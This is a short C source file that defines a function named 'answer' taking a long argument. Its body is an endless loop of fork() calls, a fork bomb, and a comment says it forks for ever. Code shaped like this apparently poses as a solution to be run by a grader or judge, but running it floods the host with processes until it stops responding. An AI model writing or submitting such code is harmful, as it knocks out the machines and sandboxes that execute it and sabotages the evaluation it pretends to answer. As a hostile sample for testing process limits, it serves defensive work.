// Forks for ever: the copy is only played.
#include <unistd.h>

long answer(long x) {
    for (;;)
        fork();
}
